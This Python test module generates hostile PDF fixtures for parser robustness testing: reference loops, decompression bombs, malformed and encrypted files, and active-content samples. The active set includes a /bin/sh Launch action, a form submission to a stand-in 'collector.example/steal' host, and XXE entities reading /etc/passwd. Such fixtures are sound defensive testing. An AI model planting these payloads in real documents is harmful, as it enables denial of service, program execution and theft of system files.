"""PDFs that loop, swell, lock, run programs, or are not what they say."""

from __future__ import annotations

import io
import zlib

import pypdf

from tests.hostile.kind import Kind
from tests.hostile.raw_pdf import packed, pdf, stream, typed

LOOPS = {
    "pages-loop": lambda: pdf(objects={2: b"<< /Type /Pages /Kids [2 0 R] /Count 1 >>"}),
    "parent-loop": lambda: pdf(objects={2: b"<< /Type /Pages /Parent 2 0 R /Kids [3 0 R] /Count 1 >>"}),
    "count-lies": lambda: pdf(objects={2: b"<< /Type /Pages /Kids [3 0 R] /Count 2000000000 >>"}),
    "count-negative": lambda: pdf(objects={2: b"<< /Type /Pages /Kids [3 0 R] /Count -7 >>"}),
    "outline-loop": lambda: pdf(
        root=b"/Outlines 6 0 R", objects={6: b"<< /First 7 0 R /Last 7 0 R >>", 7: b"<< /Title (A) /Next 7 0 R >>"}
    ),
    "form-draws-itself": lambda: pdf(
        b"/X Do", page=b"/Resources << /XObject << /X 6 0 R >> >>",
        objects={6: stream(b"/X Do /X Do", b"/Type /XObject /Subtype /Form /BBox [0 0 9 9] "
                           b"/Resources << /XObject << /X 6 0 R >> >>")},
    ),
    "forms-draw-each-other": lambda: pdf(
        b"/X Do", page=b"/Resources << /XObject << /X 6 0 R >> >>",
        objects={n: stream(b"/X Do " * 10, b"/Type /XObject /Subtype /Form /BBox [0 0 9 9] "
                           b"/Resources << /XObject << /X %d 0 R >> >>" % (n + 1 if n < 15 else 6))
                 for n in range(6, 16)},
    ),
    "annotations-loop": lambda: pdf(page=b"/Annots 6 0 R", objects={6: b"[6 0 R 6 0 R]"}),
    "attachments-loop": lambda: pdf(
        root=b"/Names << /EmbeddedFiles 6 0 R >>", objects={6: b"<< /Kids [6 0 R] >>"}
    ),
    "xref-loop": lambda: pdf(trailer=b"/Prev 15"),
    "length-of-itself": lambda: pdf(objects={4: b"<< /Length 4 0 R >>\nstream\nBT ET\nendstream"}),
    "form-fields-loop": lambda: pdf(
        root=b"/AcroForm << /Fields [6 0 R] >>", objects={6: b"<< /FT /Tx /T (a) /Kids [6 0 R] /Parent 6 0 R >>"}
    ),
    "font-of-itself": lambda: pdf(
        objects={5: b"<< /Type /Font /Subtype /Type0 /BaseFont /A /Encoding /Identity-H /DescendantFonts [5 0 R] >>"}
    ),
    "nested-arrays": lambda: pdf(objects={6: b"[" * 100_000 + b"]" * 100_000}, root=b"/A 6 0 R"),
    "nested-dictionaries": lambda: pdf(objects={6: b"<< /A " * 50_000 + b"1" + b" >>" * 50_000}, root=b"/A 6 0 R"),
    "reference-loop": lambda: pdf(objects={4: b"6 0 R", 6: b"4 0 R"}),
    "object-stream-loop": lambda: pdf(objects={6: stream(b"7 0 << >>", b"/Type /ObjStm /N 1 /First 4 /Extends 6 0 R")}),
    "pages-5000-deep": lambda: pdf(
        objects={2: b"<< /Type /Pages /Kids [10 0 R] /Count 1 >>"}
        | {n: b"<< /Type /Pages /Parent %d 0 R /Kids [%d 0 R] /Count 1 >>" % (n - 1, n + 1) for n in range(10, 5000)}
        | {5000: b"<< /Type /Page /Parent 4999 0 R /Contents 4 0 R >>"}
    ),
}  # fmt: skip

BOMBS = {
    "deflated-200-mb": lambda: pdf(objects={4: packed(b" " * 200_000_000)}),
    "deflated-twice": lambda: pdf(
        objects={4: _twice(b" " * 150_000_000)}
    ),
    "huge-page": lambda: pdf(page=b"/MediaBox [0 0 1000000000 1000000000]"),
    "page-of-nothing": lambda: pdf(page=b"/MediaBox [0 0 0 0]"),
    "page-inside-out": lambda: pdf(page=b"/MediaBox [595 842 0 0]"),
    "page-not-numbers": lambda: pdf(page=b"/MediaBox [(a) null /B 1e999]"),
    "unit-of-a-mile": lambda: pdf(page=b"/UserUnit 99999999"),
    "turned-by-7": lambda: pdf(page=b"/Rotate 7"),
    "3000-pages": lambda: pdf(
        objects={2: b"<< /Type /Pages /Kids [" + b"3 0 R " * 3000 + b"] /Count 3000 >>"}
    ),
    "million-words": lambda: pdf(objects={4: packed(b"BT /F1 1 Tf " + b"1 0 Td (word) Tj " * 1_000_000 + b"ET")}),
    "coordinates-beyond": lambda: pdf(b"BT /F1 1e38 Tf 1e38 -1e38 Td (words) Tj 99999999999999999999 0 Td (x) Tj ET"),
    "matrix-of-nothing": lambda: pdf(b"0 0 0 0 0 0 cm " + typed("Flat.")),
    "picture-30000-wide": lambda: pdf(
        b"595 0 0 842 0 0 cm /I Do", page=b"/Resources << /XObject << /I 6 0 R >> >>",
        objects={6: packed(b"\0" * 1000, b"/Type /XObject /Subtype /Image /Width 30000 /Height 30000 "
                           b"/BitsPerComponent 8 /ColorSpace /DeviceRGB")},
    ),
    "picture-of-a-gigabyte": lambda: pdf(
        b"595 0 0 842 0 0 cm /I Do", page=b"/Resources << /XObject << /I 6 0 R >> >>",
        objects={6: packed(b"\0" * 100_000_000, b"/Type /XObject /Subtype /Image /Width 20000 /Height 20000 "
                           b"/BitsPerComponent 8 /ColorSpace /DeviceRGB")},
    ),
    "jpeg-2000-rubbish": lambda: pdf(
        b"595 0 0 842 0 0 cm /I Do", page=b"/Resources << /XObject << /I 6 0 R >> >>",
        objects={6: stream(b"\xff\x4f\xff\x51" + b"\xff" * 500, b"/Type /XObject /Subtype /Image /Width 90000 "
                           b"/Height 90000 /Filter /JPXDecode")},
    ),
    "jbig2-rubbish": lambda: pdf(
        b"595 0 0 842 0 0 cm /I Do", page=b"/Resources << /XObject << /I 6 0 R >> >>",
        objects={6: stream(b"\x00\x00\x00\x00\x30\x00\x01" + b"\xff" * 500, b"/Type /XObject /Subtype /Image "
                           b"/Width 60000 /Height 60000 /BitsPerComponent 1 /ColorSpace /DeviceGray /Filter /JBIG2Decode")},
    ),
    "500-pictures-a-page": lambda: pdf(
        b"".join(b"q 300 0 0 300 %d %d cm /I Do Q " % (n % 20, n % 30) for n in range(500)),
        page=b"/Resources << /XObject << /I 6 0 R >> >>",
        objects={6: packed(b"\x7f" * 90_000, b"/Type /XObject /Subtype /Image /Width 300 /Height 300 "
                           b"/BitsPerComponent 8 /ColorSpace /DeviceGray")},
    ),
    "20000-lines-drawn": lambda: pdf(
        b"".join(b"%d 0 m %d 842 l S 0 %d m 595 %d l S " % (n % 595, n % 595, n % 842, n % 842) for n in range(20_000))
        + typed("A grid.")
    ),
    "20000-comments": lambda: pdf(
        page=b"/Annots [" + b"6 0 R " * 20_000 + b"]",
        objects={6: b"<< /Type /Annot /Subtype /Text /Rect [0 0 9 9] /Contents (a note) >>"},
    ),
    "shading-of-itself": lambda: pdf(
        b"/P sh", page=b"/Resources << /Shading << /P 6 0 R >> >>",
        objects={6: b"<< /ShadingType 3 /ColorSpace /DeviceRGB /Coords [0 0 0 0 0 1e9] /Function 6 0 R >>"},
    ),
    "one-word-5-mb": lambda: pdf(objects={4: packed(b"BT /F1 1 Tf (" + b"w" * 5_000_000 + b") Tj ET")}),
    "font-map-of-millions": lambda: pdf(
        objects={5: b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /ToUnicode 6 0 R >>",
                 6: packed(b"1 beginbfrange <00> <FFFFFFFF> <0041> endbfrange " * 20_000)},
    ),
}  # fmt: skip

ACTIVE = {
    "javascript-on-opening": b"/OpenAction << /S /JavaScript /JS (while(true){app.alert('x')}) >>",
    "starts-a-program": b"/OpenAction << /S /Launch /F (/bin/sh) /Win << /F (cmd.exe) >> >>",
    "sends-a-form": b"/OpenAction << /S /SubmitForm /F (http://collector.example/steal) >>",
    "opens-an-address": b"/OpenAction << /S /URI /URI (http://collector.example/opened) >>",
    "goes-to-another-file": b"/OpenAction << /S /GoToR /F (//collector.example/share/x.pdf) /D [0 /Fit] >>",
    "imports-data": b"/OpenAction << /S /ImportData /F (file:///etc/passwd) >>",
    "xfa-with-an-entity": b"/AcroForm << /Fields [] /XFA (<!DOCTYPE a [<!ENTITY e SYSTEM 'file:///etc/passwd'>]>"
    b"<a>&e;</a>) >>",
    "metadata-with-an-entity": b"/Metadata 6 0 R",
}  # fmt: skip


def _twice(data: bytes) -> bytes:
    return stream(zlib.compress(zlib.compress(data, 9), 9), b"/Filter [/FlateDecode /FlateDecode]")


def _locked(user: str, owner: str, algorithm: str) -> bytes:
    writer = pypdf.PdfWriter(clone_from=pypdf.PdfReader(io.BytesIO(pdf())))
    writer.encrypt(user, owner, algorithm=algorithm)
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


LOCKED = {
    "locked-aes-256": lambda: _locked("secret", "secret", "AES-256"),
    "locked-rc4": lambda: _locked("secret", "secret", "RC4-128"),
    "locked-by-an-unknown-handler": lambda: pdf(trailer=b"/Encrypt << /Filter /Vendor.Lock /V 9 /R 9 >>"),
    "locked-with-broken-keys": lambda: pdf(
        trailer=b"/Encrypt << /Filter /Standard /V 2 /R 3 /Length -5 /O () /U () /P 1 >>"
    ),
}

BROKEN = {
    "no-end": lambda: pdf()[:-60],
    "no-index": lambda: pdf().split(b"xref")[0],
    "index-elsewhere": lambda: pdf().replace(b"startxref\n", b"startxref\n9"),
    "header-at-1000": lambda: b"x" * 1000 + pdf(),
    "header-only": lambda: b"%PDF-1.7\n",
    "objects-cut": lambda: pdf().replace(b"endobj", b""),
    "filter-unknown": lambda: pdf(objects={4: stream(b"abc", b"/Filter /Nonsense")}),
    "filter-wrong": lambda: pdf(objects={4: stream(b"not deflated", b"/Filter /FlateDecode")}),
    "filters-fifty": lambda: pdf(objects={4: stream(b"61>", b"/Filter [" + b"/ASCIIHexDecode " * 50 + b"]")}),
    "font-type3-of-itself": lambda: pdf(
        objects={5: b"<< /Type /Font /Subtype /Type3 /FontBBox [0 0 1 1] /FontMatrix [1 0 0 1 0 0] /FirstChar 0 "
                 b"/LastChar 255 /CharProcs << /A 4 0 R >> /Encoding << /Differences [65 /A] >> "
                 b"/Resources << /Font << /F1 5 0 R >> >> >>"}
    ),
    "operators-endless": lambda: pdf(b"q " * 500_000),
    "name-null": lambda: pdf(trailer=b"/Info << /Title (\\000\\377\\376) /CreationDate (D:99999999999999) >>"),
}  # fmt: skip


def kinds() -> list[Kind]:
    """Every hostile PDF that hides no finding."""
    found = [Kind(f"loop-{name}.pdf", make) for name, make in LOOPS.items()]
    found += [Kind(f"bomb-{name}.pdf", make, slow=True) for name, make in BOMBS.items()]
    found += [Kind(f"{name}.pdf", make, outcomes=("refused",)) for name, make in LOCKED.items()]
    found += [Kind(f"broken-{name}.pdf", make) for name, make in BROKEN.items()]
    found.append(Kind("copying-forbidden.pdf", lambda: _locked("", "owner", "AES-256")))
    entity = b"<!DOCTYPE a [<!ENTITY e SYSTEM 'file:///etc/passwd'>]><a>&e;</a>"

    def active(root: bytes) -> bytes:
        return pdf(root=root, objects={6: stream(entity, b"/Type /Metadata /Subtype /XML")})

    found += [Kind(f"active-{name}.pdf", lambda root=root: active(root)) for name, root in ACTIVE.items()]  # type: ignore[misc]
    return found
